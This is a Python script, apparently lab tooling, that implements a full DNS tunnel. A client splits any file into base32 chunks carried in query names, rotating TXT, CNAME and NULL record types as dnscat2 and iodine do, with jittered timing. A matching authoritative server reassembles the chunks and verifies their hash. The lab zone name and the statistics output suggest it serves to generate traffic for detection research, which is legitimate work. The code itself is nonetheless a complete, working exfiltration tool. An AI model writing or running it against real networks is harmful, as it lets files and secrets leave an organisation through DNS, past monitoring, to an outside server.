"""A DNS tunnel for the lab: an authoritative server for the tunnel zone, and the exfiltrating client.

    python3 labdns.py serve --bind IP --zone t.exfil-tunnel.test --state FILE
    python3 labdns.py send --file F --zone t.exfil-tunnel.test [--resolver IP] [--gap 0.02]

The client cuts the file into 115-byte chunks, writes each as base32 (lower case, no
padding) into three labels of a query name ``<data>.<seq hex>.<session>.<zone>``, and asks
the namespace's resolver (from /etc/resolv.conf) for it: mostly TXT, every fourth query
CNAME, every eighth NULL, like dnscat2/iodine rotate record types. A final ``fin`` query
carries the file's SHA-256 prefix. It prints one JSON line with its exact counts.

The server answers every name under the zone (TXT "ack <seq>", NULL with 16 bytes, CNAME to
a name in the zone; TTL 0 so no resolver caches), REFUSED for anything else, reassembles the
chunks by sequence number and, on SIGTERM, writes what it received to --state as JSON.
Standard library only: DNS messages are packed by hand.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
import signal
import socket
import struct
import sys
import time

CHUNK = 115  # raw bytes per query: 184 base32 characters, 3 labels, name stays < 230 chars
LABEL = 63  # the longest DNS label
T_A, T_CNAME, T_NULL, T_TXT = 1, 5, 10, 16
TYPE_NAMES = {T_A: "A", T_CNAME: "CNAME", T_NULL: "NULL", T_TXT: "TXT", 28: "AAAA"}


# ---- wire format --------------------------------------------------------------------------------


def encode_name(name: str) -> bytes:
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\0"


def decode_name(msg: bytes, off: int) -> tuple[str, int]:
    """Name at ``off`` (questions from resolvers are uncompressed); returns (name, offset after)."""
    labels = []
    while msg[off]:
        n = msg[off]
        labels.append(msg[off + 1:off + 1 + n].decode("ascii"))
        off += 1 + n
    return ".".join(labels), off + 1


def query(tid: int, name: str, qtype: int) -> bytes:
    return struct.pack(">HHHHHH", tid, 0x0100, 1, 0, 0, 0) + encode_name(name) + struct.pack(">HH", qtype, 1)


def parse_question(msg: bytes) -> tuple[int, int, str, int, int]:
    """(id, flags, qname, qtype, offset after the question)."""
    tid, flags, qd = struct.unpack(">HHH", msg[:6])
    if qd != 1:
        raise ValueError("one question expected")
    name, off = decode_name(msg, 12)
    qtype, _qclass = struct.unpack(">HH", msg[off:off + 4])
    return tid, flags, name, qtype, off + 4


# ---- server ---------------------------------------------------------------------------------------


def _rdata(qtype: int, name: str, zone: str, seq: str) -> bytes | None:
    if qtype == T_TXT:
        txt = f"ack {seq}".encode()
        return bytes([len(txt)]) + txt
    if qtype == T_NULL:
        return hashlib.sha256(name.encode()).digest()[:16]  # stands in for downstream data
    if qtype == T_CNAME:
        return encode_name(f"{hashlib.sha1(name.encode()).hexdigest()[:12]}.{zone}")
    return None


def answer(msg: bytes, zone: str, server_ip: str) -> tuple[bytes, str, int]:
    tid, flags, name, qtype, end = parse_question(msg)
    question = msg[12:end]
    rd = flags & 0x0100
    lname = name.lower()
    if not (lname == zone or lname.endswith("." + zone)):
        return struct.pack(">HHHHHH", tid, 0x8000 | rd | 5, 1, 0, 0, 0) + question, name, qtype  # REFUSED
    labels = lname[: -len(zone) - 1].split(".") if lname != zone else []
    seq = labels[-2] if len(labels) >= 2 else "-"
    rdata = socket.inet_aton(server_ip) if qtype == T_A and not labels else _rdata(qtype, lname, zone, seq)
    if rdata is None:  # NOERROR, no data (e.g. AAAA)
        return struct.pack(">HHHHHH", tid, 0x8400 | rd, 1, 0, 0, 0) + question, name, qtype
    rr = b"\xc0\x0c" + struct.pack(">HHIH", qtype, 1, 0, len(rdata)) + rdata
    return struct.pack(">HHHHHH", tid, 0x8400 | rd, 1, 1, 0, 0) + question + rr, name, qtype


class Collector:
    """What arrived through the tunnel: chunks by (session, seq), query counts, the fin marker."""

    def __init__(self, zone: str):
        self.zone, self.queries, self.names, self.chunks, self.fin = zone, 0, set(), {}, {}
        self.qtypes: dict[str, int] = {}
        self.clients: dict[str, int] = {}

    def add(self, name: str, qtype: int, client: str) -> None:
        self.queries += 1
        self.names.add(name.lower())
        t = TYPE_NAMES.get(qtype, str(qtype))
        self.qtypes[t] = self.qtypes.get(t, 0) + 1
        self.clients[client] = self.clients.get(client, 0) + 1
        labels = name.lower()[: -len(self.zone) - 1].split(".") if name.lower() != self.zone else []
        if len(labels) == 3 and labels[0] == "fin":
            self.fin[labels[2]] = labels[1]
        elif len(labels) >= 3:
            data, seq, sid = "".join(labels[:-2]), int(labels[-2], 16), labels[-1]
            self.chunks[(sid, seq)] = base64.b32decode(data.upper() + "=" * (-len(data) % 8))

    def state(self) -> dict:
        sessions = {}
        for sid in sorted({s for s, _ in self.chunks}):
            blob = b"".join(self.chunks[(s, q)] for s, q in sorted(self.chunks) if s == sid)
            digest = hashlib.sha256(blob).hexdigest()
            sessions[sid] = {"chunks": sum(s == sid for s, _ in self.chunks), "bytes": len(blob),
                             "sha256": digest, "fin_matches": self.fin.get(sid) == digest[:16]}
        return {"queries": self.queries, "unique_names": len(self.names), "qtypes": self.qtypes,
                "clients": self.clients, "sessions": sessions}


def serve(a: argparse.Namespace) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((a.bind, 53))
    sock.settimeout(0.5)
    col, stop = Collector(a.zone.lower()), []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    print(f"labdns serving {a.zone} on {a.bind}:53", file=sys.stderr, flush=True)
    while not stop:
        try:
            msg, peer = sock.recvfrom(4096)
        except socket.timeout:
            continue
        except InterruptedError:
            continue
        try:
            reply, name, qtype = answer(msg, col.zone, a.bind)
        except (ValueError, IndexError, struct.error):
            continue  # not a DNS query we understand: no answer
        if name.lower().endswith(col.zone):
            col.add(name, qtype, peer[0])
        sock.sendto(reply, peer)
    with open(a.state, "w") as f:
        json.dump(col.state(), f)


# ---- client ---------------------------------------------------------------------------------------


def resolver() -> str:
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            return line.split()[1]
    raise SystemExit("no nameserver in /etc/resolv.conf")


def qtype_for(seq: int) -> int:
    return T_NULL if seq % 8 == 5 else T_CNAME if seq % 4 == 3 else T_TXT


def names_for(data: bytes, zone: str, sid: str) -> list[tuple[str, int]]:
    out = []
    for seq, off in enumerate(range(0, len(data), CHUNK)):
        b32 = base64.b32encode(data[off:off + CHUNK]).decode().rstrip("=").lower()
        labels = [b32[i:i + LABEL] for i in range(0, len(b32), LABEL)]
        out.append((".".join(labels + [f"{seq:04x}", sid, zone]), qtype_for(seq)))
    out.append((f"fin.{hashlib.sha256(data).hexdigest()[:16]}.{sid}.{zone}", T_TXT))
    return out


def send(a: argparse.Namespace) -> None:
    data = open(a.file, "rb").read()
    rng = random.Random(a.seed)
    sid = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(4))
    server = a.resolver or resolver()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((server, 53))
    sock.settimeout(a.timeout)
    stats = {"client_ip": sock.getsockname()[0], "client_port": sock.getsockname()[1], "server_ip": server,
             "server_port": 53, "session": sid, "file_bytes": len(data), "file_sha256": hashlib.sha256(data).hexdigest(),
             "queries_sent": 0, "retransmissions": 0, "unanswered": 0, "responses": 0, "rcodes": {}, "qtypes": {},
             "query_name_chars": 0, "subdomain_chars": 0, "query_wire_bytes": 0, "response_wire_bytes": 0, "start": time.time()}
    names = names_for(data, a.zone, sid)
    stats["unique_query_names"] = len({n for n, _ in names})
    stats["data_queries"] = len(names) - 1
    for name, qtype in names:
        tid = rng.randrange(65536)
        msg = query(tid, name, qtype)
        for attempt in range(a.tries):
            sock.send(msg)
            stats["queries_sent"] += 1
            stats["retransmissions"] += attempt > 0
            stats["query_name_chars"] += len(name)
            stats["subdomain_chars"] += len(name) - len(a.zone) - 1  # the part left of the zone
            stats["query_wire_bytes"] += len(msg)
            t = TYPE_NAMES[qtype]
            stats["qtypes"][t] = stats["qtypes"].get(t, 0) + 1
            try:
                reply = sock.recv(4096)
                while struct.unpack(">H", reply[:2])[0] != tid:
                    reply = sock.recv(4096)  # a late answer to an earlier try
            except socket.timeout:
                continue
            stats["responses"] += 1
            stats["response_wire_bytes"] += len(reply)
            rc = reply[3] & 0x0F
            stats["rcodes"][str(rc)] = stats["rcodes"].get(str(rc), 0) + 1
            break
        else:
            stats["unanswered"] += 1
        time.sleep(a.gap * rng.uniform(0.5, 1.5))
    stats["end"] = time.time()
    print(json.dumps(stats), flush=True)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--bind", required=True)
    s.add_argument("--zone", required=True)
    s.add_argument("--state", required=True)
    c = sub.add_parser("send")
    c.add_argument("--file", required=True)
    c.add_argument("--zone", required=True)
    c.add_argument("--resolver")
    c.add_argument("--gap", type=float, default=0.02, help="mean seconds between queries")
    c.add_argument("--timeout", type=float, default=2.0)
    c.add_argument("--tries", type=int, default=3)
    c.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    serve(a) if a.cmd == "serve" else send(a)


if __name__ == "__main__":
    main()
